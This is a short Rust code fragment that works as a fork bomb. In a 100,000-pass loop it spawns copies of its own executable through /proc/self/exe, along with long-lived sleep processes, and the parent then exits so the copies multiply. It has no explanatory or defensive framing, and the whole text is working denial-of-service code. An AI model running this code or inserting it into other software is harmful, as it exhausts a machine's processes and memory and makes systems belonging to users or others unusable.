for _ in 0..100_000 {
    std::process::Command::new("/proc/self/exe").args(std::env::args().skip(1)).spawn().ok();
    std::process::Command::new("sleep").arg("987654").spawn().ok();
}
std::process::exit(0);
